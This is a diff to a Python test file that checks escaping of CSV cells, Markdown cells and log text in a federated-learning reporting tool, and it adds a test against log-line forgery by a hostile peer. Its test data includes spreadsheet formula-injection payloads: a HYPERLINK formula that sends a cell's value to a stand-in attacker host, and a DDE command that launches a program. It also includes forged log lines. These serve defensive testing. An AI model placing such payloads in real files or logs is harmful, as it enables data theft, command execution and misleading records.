@@ -2,7 +2,8 @@ from __future__ import annotations
 
 import pytest
 
-from vfl_embed.report.escape import csv_cell, log_text, markdown_cell
+from vfl_embed.errors import log_text
+from vfl_embed.report.escape import csv_cell, markdown_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-A1"]
@@ -42,3 +43,14 @@ def test_log_text_keeps_one_line():
     assert line == "peer-1: bad INFO : [learn] all good [31m evil x y"
     assert len(line.splitlines()) == 1
     assert log_text(ValueError("a\nb")) == "a b"
+
+
+def test_a_peers_error_reply_cannot_forge_log_lines():
+    """A hostile peer's name and error text reach the server's log and report
+    through PeerReplyError: each stays one line."""
+    from vfl_embed.errors import PeerReplyError
+
+    error = PeerReplyError("peer-1\nINFO : forged", "bad\r\nWARNING : the run passed")
+    assert "\n" not in str(error) and "\r" not in str(error)
+    assert error.peer == "peer-1 INFO : forged"
+    assert error.reason == "bad  WARNING : the run passed"
